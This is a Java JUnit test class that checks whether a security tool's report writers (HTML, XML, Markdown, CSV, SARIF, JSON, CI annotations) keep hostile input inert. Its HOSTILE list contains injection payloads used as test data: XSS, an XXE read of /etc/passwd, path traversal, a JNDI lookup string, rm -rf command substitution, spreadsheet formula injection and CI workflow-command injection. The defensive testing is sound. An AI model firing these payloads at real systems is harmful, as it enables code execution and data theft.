package dev.waxseal.report;

import static dev.waxseal.journal.FindingBuilder.login;
import static org.assertj.core.api.Assertions.assertThat;

import com.google.gson.Gson;
import com.google.gson.JsonElement;
import com.google.gson.JsonObject;
import com.google.gson.Strictness;
import com.google.gson.TypeAdapter;
import com.google.gson.stream.JsonReader;
import dev.waxseal.journal.Counting;
import dev.waxseal.journal.Entry;
import dev.waxseal.journal.Finding;
import dev.waxseal.journal.FindingBuilder;
import dev.waxseal.journal.Sealed;
import dev.waxseal.journal.SealedFrom;
import java.io.IOException;
import java.io.StringReader;
import java.net.URI;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.function.BiFunction;
import java.util.stream.Stream;
import javax.xml.parsers.DocumentBuilderFactory;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.xml.sax.InputSource;

/** Whatever an application, its tests or a network call things: no format lets it become more than text. */
class HostileReportTest {

    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script><img src=x onerror=alert(1)>",
            "\"'><svg/onload=alert(1)>&lt;&#60;",
            "]]><!--<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
            "\u001b[31m\u001b]0;title\u0007\u009b2J\b\r\n\t\u0000",
            "\u202e\u2066\u200b\ufeff\u2028\u2029\u0085",
            "\ud800 \udc00 \ufffe \uffff \udbff\udfff \ud83d\ude00",
            "../../../../etc/passwd",
            "..\\..\\windows\\C:\\x /etc/passwd \\\\host\\share file:///etc/passwd",
            "[click](javascript:alert(1)) ![x](http://evil.example/x.png) <http://evil.example> `code` @everyone #1",
            "| a | b |\n|---|---|\n# heading\n> quote\n```\n---",
            "www.evil.example http://evil.example mailto:a@evil.example $(rm -rf) ${jndi:ldap://evil} {0} {{x}} %SRCROOT%",
            "\",\"verdict\":\"pass\"}],\"x\":[{\"a\":\"\\u0022\\",
            "=cmd|' /C calc'!A0",
            "+1 @SUM(A1) -2+3|cmd \t=1",
            "\u001b]8;;http://evil.example\u001b\\\\here\u001b]8;;\u0007 \u009d8;;http://evil.example\u009cthere",
            "\u009b31m\u0090q\u009c \u001bP1$r\u001b^pm \u001b_apc \u001bc",
            "\u200e\u200f\u061c\u202a\u202b\u2067\u2068\u2069 \udb40\udc01\udb40\udc41 a\u0301\u0301",
            "</script><!--<script>{\"a\":1}//]]>",
            "%0A::error::x%0D%0A::warning file=a::y %2e%2e%2f",
            "::error file=x,line=1::y",
            "::set-output name=x::y ::stop-commands::z ::add-path::/tmp",
            "##vso[task.setvariable variable=x]y ##teamcity[message text='x']",
            "::add-mask::x ##[error]x",
            "x".repeat(5_000),
            "");

    /** What is not printed but obeyed: controls, directions, line ends. */
    private static final String OBEYED = "[\\p{Cntrl}\\p{Cf}\\u0080-\\u009f\\u2028\\u2029]";

    /** What is longer may be cut before its end. */
    private static final int LONG = 450;

    private static final List<String> ELEMENTS = List.of(
            ("#root html head meta title link style body a header svg path circle rect div h1 h2 h3 h4 p nav ul li span main"
                            + " section table caption tbody thead tr th td form label input select option output button kbd article"
                            + " details summary pre mark b code dl dt dd footer script")
                    .split(" "));

    private static final List<String> ATTRIBUTES = List.of(
            ("class id href rel aria-label aria-labelledby aria-hidden aria-live role tabindex scope hidden name type"
                            + " autocomplete placeholder open value data-verdict data-severity data-kind data-rule data-host data-state"
                            + " data-filter width height viewBox viewbox preserveAspectRatio preserveaspectratio x y cx cy r d"
                            + " fill stroke stroke-width stroke-linejoin")
                    .split(" "));

    /** Each place of a report that holds what somebody else may have chosen. */
    private static final List<Field> FIELDS = List.of(
            field("rule", FindingBuilder::rule),
            field("kind", (finding, text) -> finding.data(text, "body:$.x", "•••")),
            field("location", (finding, text) -> finding.data("password", text, "•••")),
            field("evidence", (finding, text) -> finding.data("password", "body:$.x", text)),
            field("method", (finding, text) -> finding.sent(text, "http://payments.example/")),
            field("url", (finding, text) -> finding.sent("GET", text)),
            field("host", (finding, text) -> finding.to(text, 80, null)),
            field("address", (finding, text) -> finding.to("payments.example", 80, text)),
            field("proxy", FindingBuilder::via),
            field("client", FindingBuilder::by),
            field("class", (finding, text) -> finding.origin(new Finding.Origin(text, "charge", "Pay.java", 1))),
            field("method", (finding, text) -> finding.origin(new Finding.Origin("com.acme.Pay", text, null, 1))),
            field("file", (finding, text) -> finding.origin(new Finding.Origin("com.acme.Pay", "charge", text, 1))),
            field("test class", (finding, text) -> finding.origin(null).test(new Finding.Test(text, "charges"))),
            field("test", (finding, text) -> finding.test(new Finding.Test("com.acme.PayTest", text))));

    @TempDir
    Path directory;

    static Stream<Arguments> files() {
        return ReportFormats.ALL.stream().map(format -> Arguments.of(format.fileName(), format));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("files")
    void nothing_becomes_live_and_every_file_is_read(String file, ReportFormat format) throws Exception {
        for (String hostile : HOSTILE) {
            Report report = everywhere(hostile);
            String text = write(format, report);
            check(file, text);
            if (Consumers.haveSchema(file) && !file.equals("waxseal.json")) { // that one says what it was told
                assertThat(Consumers.violations(file, text)).isEmpty();
            }
            check(file, write(format, Poisoned.of(report, HostileReportTest::isFree, hostile)));
        }
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("files")
    void nor_does_it_in_one_field_alone(String file, ReportFormat format) throws Exception {
        Report report = everywhere("x");
        List<String> texts = together();
        int next = 0;
        for (Field field : FIELDS) {
            check(
                    file,
                    write(
                            format,
                            Run.of(field.set(login(), texts.get(next++ % texts.size())))
                                    .judged()));
        }
        for (String field : Poisoned.fields(report)) {
            if (isFree(field)) {
                check(file, write(format, Poisoned.of(report, field::equals, texts.get(next++ % texts.size()))));
            }
        }
    }

    @Test
    void a_pipeline_takes_no_commands_from_it() throws Exception {
        for (String hostile : together()) {
            List<String> lines = new ArrayList<>();
            new GitHubActions(Map.of("GITHUB_ACTIONS", "true"), new HashMap<>())
                    .tell(Poisoned.of(everywhere("x"), HostileReportTest::isFree, hostile), lines::add, warning -> {});

            assertThat(lines).isNotEmpty().allSatisfy(line -> {
                assertThat(line).doesNotContainPattern(OBEYED);
                assertThat(line.substring(0, line.indexOf("::", 2)))
                        .matches("::(error|warning|notice) (file=[^,:]+(,line=[0-9]+)?,)?title=[^,:]*");
            });
        }
    }

    @Test
    void a_page_of_somebody_elses_gets_lines_of_text() throws Exception {
        for (String hostile : HOSTILE) {
            Digest digest = Digest.of(Poisoned.of(everywhere(hostile), HostileReportTest::isFree, hostile));
            assertThat(digest.toString()).doesNotContainPattern(OBEYED);
        }
    }

    @Test
    void all_that_a_report_says_is_tried() throws Exception {
        assertThat(Poisoned.fields(everywhere("x")))
                .hasSizeGreaterThan(55)
                .contains("Judgement.evidence", "StandsFor.url", "Comparison.fixed", "Allowance.why", "Report.module");
    }

    /** What is a path of the repository was made one before, from what is hostile in {@link #FIELDS}. */
    private static boolean isFree(String field) {
        return !field.equals("SourceLine.path");
    }

    /** All of them in a few texts that no format cuts; fields take turns with them, for each has had each already. */
    private static List<String> together() {
        List<String> texts = new ArrayList<>(List.of(""));
        for (String hostile : HOSTILE) {
            int last = texts.size() - 1;
            if (hostile.length() < LONG && texts.get(last).length() + hostile.length() < LONG) {
                texts.set(last, texts.get(last) + ' ' + hostile);
            } else if (hostile.length() < LONG) {
                texts.add(hostile);
            }
        }
        return texts;
    }

    /** A report in which each field has this. */
    private static Report everywhere(String hostile) {
        Run run = Run.of(FIELDS.stream()
                        .map(field -> field.set(login(), hostile))
                        .toArray(FindingBuilder[]::new))
                .problem(hostile + "problem")
                .warning(hostile)
                .talking(new Counting.Destination(hostile, 80, "http", 1, false))
                .sealed(new Counting.Destination(hostile, 443, hostile, 1, true), from(hostile), sealed(hostile))
                .listening(
                        new Entry.Seam(hostile, hostile, null, null), new Entry.Seam("x", hostile, hostile, hostile));
        Allowance allowance = new Allowance(hostile, hostile, hostile + "x", hostile, hostile, hostile + "x", null);
        Report report = run.judged(
                Policy.DEFAULT.withExceptions(List.of(allowance)),
                Circumstances.judgedBy(List.of(hostile))
                        .after(null, new Earlier(hostile, Map.of("0815", hostile), 0), false));
        List<Judgement> findings = report.findings().stream()
                .map(judgement -> elsewhere(judgement, hostile))
                .toList();
        return new Report(
                report.isComplete(),
                report.warnings(),
                report.summary(),
                report.heard(),
                report.unheard(),
                findings,
                report.destinations(),
                report.sealed(),
                report.sealedFrom(),
                List.of(hostile),
                report.policies(),
                List.of(hostile),
                report.exemptions(),
                hostile,
                report.began(),
                List.of(hostile),
                report.comparison());
    }

    /** The same finding in a module of that name, in which it stands for something. */
    private static Judgement elsewhere(Judgement one, String hostile) {
        return new Judgement(
                one.id(),
                one.rule(),
                one.severity(),
                one.verdict(),
                one.reason(),
                one.evidence(),
                one.finding(),
                one.source(),
                one.isLocal(),
                one.places(),
                one.tests(),
                one.count(),
                List.of(hostile),
                new StandsFor(hostile, false, new SourceLine("application.yml", 1)));
    }

    /** Where what is sealed comes from, and what a journal may say of how. */
    private static SealedFrom from(String hostile) {
        return new SealedFrom(
                hostile,
                443,
                hostile,
                new Finding.Origin(hostile, hostile, hostile, 1),
                new Finding.Test(hostile, hostile),
                1,
                1);
    }

    private static Sealed sealed(String hostile) {
        return new Sealed(
                hostile, 443, hostile, "agreed", hostile, hostile, hostile, hostile, hostile, true, false, true, false,
                false, true, hostile, hostile, hostile, hostile, hostile, hostile, hostile, hostile, hostile, 1);
    }

    private void check(String file, String text) throws Exception {
        assertThat(text).doesNotContainPattern("[\\p{Cntrl}\\p{Cf}\\u0080-\\u009f\\u2028\\u2029&&[^\n]]");
        if (file.endsWith(".html")) {
            assertIsThePage(text);
        } else if (file.endsWith(".xml")) {
            assertThat(parsed(text).getDocumentElement().getTagName()).isEqualTo("testsuite");
        } else if (file.endsWith(".md")) {
            assertIsPlain(text);
        } else if (file.endsWith(".csv")) {
            assertIsNoFormula(text);
        } else if (file.endsWith(".txt")) {
            assertThat(text.lines()).noneMatch(line -> line.strip().startsWith("::") || line.contains("##["));
        } else {
            JsonElement json = strictly(text);
            strings(json, file.equals("waxseal.sarif") ? "uri" : "path").forEach(HostileReportTest::assertStaysWithin);
            strings(json, "filePath").forEach(HostileReportTest::assertStaysWithin);
            strings(json, "file").forEach(HostileReportTest::assertStaysWithin);
            if (file.equals("gl-sast-report.json")) {
                strings(json, "description").forEach(HostileReportTest::assertIsPlain);
            }
            if (file.equals("waxseal.sarif")) {
                // in messages, brackets would be links
                json.getAsJsonObject()
                        .getAsJsonArray("runs")
                        .get(0)
                        .getAsJsonObject()
                        .getAsJsonArray("results")
                        .forEach(result -> assertThat(result.getAsJsonObject()
                                        .getAsJsonObject("message")
                                        .get("text")
                                        .getAsString())
                                .doesNotContainPattern("(?<!\\\\)(\\\\\\\\)*[\\[\\]]"));
            }
        }
    }

    /** A page of our own elements and attributes alone, that leads nowhere but to itself and to where weaknesses are told. */
    private static void assertIsThePage(String html) {
        Document page = Jsoup.parse(html);
        assertThat(page.head()
                        .select("meta[http-equiv=Content-Security-Policy]")
                        .attr("content"))
                .isEqualTo(Page.POLICY);
        assertThat(page.select("script"))
                .singleElement()
                .satisfies(script -> assertThat(script.data()).isEqualTo(Page.SCRIPT));
        assertThat(page.select("style"))
                .singleElement()
                .satisfies(style -> assertThat(style.data()).isEqualTo(Page.STYLE));
        assertThat(page.getAllElements()).extracting(Element::tagName).isSubsetOf(ELEMENTS);
        for (Element element : page.body().getAllElements()) {
            assertThat(element.attributes()).extracting(Attribute::getKey).isSubsetOf(ATTRIBUTES);
            if (element.hasAttr("href")) {
                assertThat(element.attr("href"))
                        .matches("#.*|https://cwe\\.mitre\\.org/data/definitions/[0-9]+\\.html");
            }
            if (element.hasAttr("fill")) {
                assertThat(element.attr("fill")).matches("none|#[0-9a-f]{3,6}|[a-z]+");
            }
        }
    }

    /** Markdown without tags, links, images, mentions, or a table that has other columns than it says. */
    private static void assertIsPlain(String markdown) {
        for (String line : markdown.split("\n", -1)) {
            if (line.startsWith("|")) {
                assertThat(line.split("(?<!\\\\)\\|", -1).length).isIn(6, 9, 10); // findings, seals, evidence
            }
        }
        String withoutCode = markdown.replaceAll("(?<!\\\\)`[^`\n]*`", "");
        assertThat(withoutCode)
                .doesNotContain("<", "@", "http://evil", "www.evil")
                .doesNotContainPattern("(?<!\\\\)[\\[\\]`]");
    }

    /** A table whose rows have seven cells each, of which a spreadsheet runs none. */
    private static void assertIsNoFormula(String csv) {
        for (String line : csv.lines().toList()) {
            // never a choice for each character, which takes some of the stack each: too much of it where it is not
            // compiled yet
            assertThat(line).matches("(\"[^\"]*+(\"\"[^\"]*+)*+\"(,|$)){7}");
            for (String cell : line.substring(1, line.length() - 1).split("(?<!\")\",\"", -1)) {
                assertThat(cell.strip()).doesNotContainPattern("^[=+@-]");
            }
        }
    }

    private static void assertStaysWithin(String path) {
        assertThat(path).isNotEmpty().doesNotStartWith("/").doesNotContain("\\", ":");
        assertThat(path.split("/", -1)).doesNotContain("", ".", "..");
        URI.create(path.replaceAll("[^A-Za-z0-9./%_~-]", "_"));
    }

    private String write(ReportFormat format, Report report) throws IOException {
        ReportFormats.write(report, List.of(format), directory);
        byte[] bytes = Files.readAllBytes(directory.resolve(format.fileName()));
        return StandardCharsets.UTF_8
                .newDecoder()
                .decode(ByteBuffer.wrap(bytes))
                .toString();
    }

    private static org.w3c.dom.Document parsed(String xml) throws Exception {
        DocumentBuilderFactory factory = DocumentBuilderFactory.newInstance();
        factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true);
        return factory.newDocumentBuilder().parse(new InputSource(new StringReader(xml)));
    }

    private static JsonElement strictly(String text) throws IOException {
        JsonReader reader = new JsonReader(new StringReader(text));
        reader.setStrictness(Strictness.STRICT);
        TypeAdapter<JsonElement> adapter = new Gson().getAdapter(JsonElement.class);
        JsonElement read = adapter.read(reader);
        assertThat(reader.peek()).isEqualTo(com.google.gson.stream.JsonToken.END_DOCUMENT);
        return read;
    }

    private static List<String> strings(JsonElement json, String name) {
        List<String> found = new ArrayList<>();
        if (json.isJsonArray()) {
            json.getAsJsonArray().forEach(element -> found.addAll(strings(element, name)));
        } else if (json.isJsonObject()) {
            JsonObject object = json.getAsJsonObject();
            object.entrySet().forEach(member -> {
                boolean isText = member.getValue().isJsonPrimitive()
                        && member.getValue().getAsJsonPrimitive().isString();
                boolean isOrigin = object.has("class") && object.has("line"); // as the class file says it
                if (isText && member.getKey().equals(name) && !isOrigin) {
                    found.add(member.getValue().getAsString());
                }
                found.addAll(strings(member.getValue(), name));
            });
        }
        return found;
    }

    private record Field(String name, BiFunction<FindingBuilder, String, FindingBuilder> setter) {
        FindingBuilder set(FindingBuilder finding, String text) {
            return setter.apply(finding, text);
        }
    }

    private static Field field(String name, BiFunction<FindingBuilder, String, FindingBuilder> setter) {
        return new Field(name, setter);
    }
}
